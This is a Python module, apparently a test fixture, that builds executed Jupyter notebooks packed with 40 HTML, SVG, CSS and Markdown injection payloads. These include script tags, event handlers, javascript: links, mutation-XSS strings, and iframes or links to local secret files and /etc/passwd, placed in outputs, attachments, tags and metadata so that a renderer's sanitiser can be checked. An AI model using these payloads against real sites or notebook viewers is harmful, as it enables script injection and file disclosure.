"""Executed notebooks that attack people who read or print their handouts: 40 ways, each in every place."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

CHANGED = "title changed by a script"
_RUN = f"document.title='{CHANGED}'"
# {file} is the address of a file that nobody may read, {web} one that nobody may ask for.
PAYLOADS = (
    "<script>RUN</script>",
    "<script src={web}></script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><foreignObject><iframe src={file}></iframe></foreignObject></svg>",
    "<svg><image href={web} /><use href={web}#a /></svg>",
    "<svg><a xlink:href=javascript:RUN><text>a</text></a></svg>",
    "<svg><set attributeName=onload to=RUN /><animate onbegin=RUN attributeName=x dur=1s /></svg>",
    "<svg><rect fill='url({web}#a)' style='fill:u\\rl({web})'/></svg>",
    "<iframe src={file}></iframe>",
    "<iframe srcdoc='<script>top.RUN</script>'></iframe>",
    "<object data={file}></object>",
    "<embed src={file}>",
    "<frameset><frame src={file}></frameset>",
    "<meta http-equiv=refresh content='0;url={web}'>",
    "<base href={web}>",
    "<link rel=stylesheet href={web}>",
    "<link rel=prefetch href={web}><link rel='dns-prefetch' href={web}>",
    "<style>@import url({web}); body {{ background: url({web}) }}</style>",
    "<style>@font-face {{ font-family: x; src: url({file}) }} * {{ font-family: x }}</style>",
    "<p style=\"background:url({web});background-image:image-set('{web}' 1x);list-style:url({web})\">a</p>",
    "<p style=\"background:\\75 rl({web});width:expression(RUN)\">a</p>",
    "<form action={web}><input autofocus onfocus=RUN><button formaction=javascript:RUN>a</button></form>",
    "<a href=javascript:RUN>a</a><a href='java&#10;script:RUN'>b</a><a href=' &#1;javascript:RUN'>c</a>",
    "<a href='data:text/html,<script>RUN</script>'>a</a><a href=vbscript:RUN>b</a>",
    "<a href={file}>a</a><a href=/etc/passwd>b</a><a href=//host/share>c</a><a href='..\\..\\x'>d</a>",
    "<img src={file}><img srcset='{web} 2x'><picture><source srcset={web}></picture>",
    "<video src={web} poster={web} autoplay></video><audio src={web} onloadstart=RUN></audio>",
    "<input type=image src={web} onerror=RUN><body onload=RUN background={web}>",
    "<table background={web}><tr><td background={web}>a</td></tr></table>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\"></style></svg>",
    "</main></body></html><script>RUN</script>",
    "</style></title><script>RUN</script>",
    "\"'><script>RUN</script>",
    "<!--><img src=x onerror=RUN>--><![CDATA[><img src=x onerror=RUN>]]>",
    "<details open ontoggle=RUN><summary>a</summary><marquee onstart=RUN>b</marquee></details>",
    "![a]({web}) ![b]({file}) [c](javascript:RUN) [d]({file}) ![e](attachment:a.png) <{file}> [f]: javascript:RUN",
)  # fmt: skip


@dataclass(frozen=True)
class Traps:
    """The targets of an attack.

    Attributes:
        file: The address of a file with a secret.
        web: An address on this machine where somebody listens.
    """

    file: str
    web: str


def payload(number: int, traps: Traps) -> str:
    """Return one of the attacks."""
    return PAYLOADS[number].format(file=traps.file, web=traps.web).replace("RUN", _RUN)


def hostile_cells(number: int, traps: Traps) -> list[NotebookNode]:
    """Return cells with one attack in every place that a page shows, in an order of its own."""
    text = payload(number, traps)
    picture = base64.b64encode(text.encode()).decode()
    attached = {"a.png": {"image/png": f'"><script>{_RUN}</script>', "text/html": text}, f"b{text}.svg": {"image/svg+xml": picture}}
    outputs = [
        new_output("display_data", data={"text/html": text, "text/plain": text}),
        new_output("display_data", data={"text/html": [text[:9], text[9:]]}),
        new_output("display_data", data={"text/markdown": text, "text/latex": text}),
        new_output("display_data", data={"text/latex": text.replace("$", "")}),
        new_output("display_data", data={"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{text}</svg>"}),
        new_output(
            "display_data", data={"image/png": f'">{text}'}, metadata={"image/png": {"alt": f'">{text}', "width": f"1px;{text}"}}
        ),
        new_output("display_data", data={"image/jpeg": f"'>{text}"}, metadata={"image/png": text}),
        new_output("display_data", data={"application/javascript": _RUN, "text/html": text, "text/plain": "instead"}),
        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": text}, "text/html": text}),
        new_output("execute_result", data={"text/plain": text}, execution_count=1),
        new_output("stream", name="stdout", text=f"\x1b[31m{text}\x1b[0m"),
        new_output("error", ename=text, evalue=text, traceback=[text]),
    ]
    tagged = {"tags": [f'a">{text}'.replace(",", ""), "exercise"]}
    cells = [
        new_markdown_cell(f"## {text}\n\n{text}\n\n> {text}\n\n| a |\n|---|\n| {text} |", attachments=attached),
        new_markdown_cell(f"![a](attachment:a.png) ![b](attachment:b{text}.svg)", attachments=attached, metadata=tagged),
        new_code_cell(f"x = '''{text}'''", outputs=outputs, execution_count=1, metadata=tagged),
        new_code_cell(f"%%spmd {text}\n1", outputs=[], execution_count=2),
    ]
    random.Random(number).shuffle(cells)
    return cells


def hostile_notebook(numbers: range, traps: Traps) -> NotebookNode:
    """Return an executed notebook with some of the attacks, in its title and its metadata too."""
    first = payload(numbers[0], traps)
    state = {"m": {"model_name": "HTMLModel", "model_module": "x", "state": {"value": first}}}
    metadata = {
        "title": first,
        "kernelspec": {"name": "python3", "display_name": first},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2, "version_minor": 0}},
        "papermill": {"parameters": {"x": first}, "exception": None},
    }
    cells = [new_markdown_cell(f"# 1 Title {first}\n\nAbout {first}"), *(cell for n in numbers for cell in hostile_cells(n, traps))]
    for number, cell in enumerate(cells):
        cell.id = f"c{number}"
    return new_notebook(cells=cells, metadata=metadata)
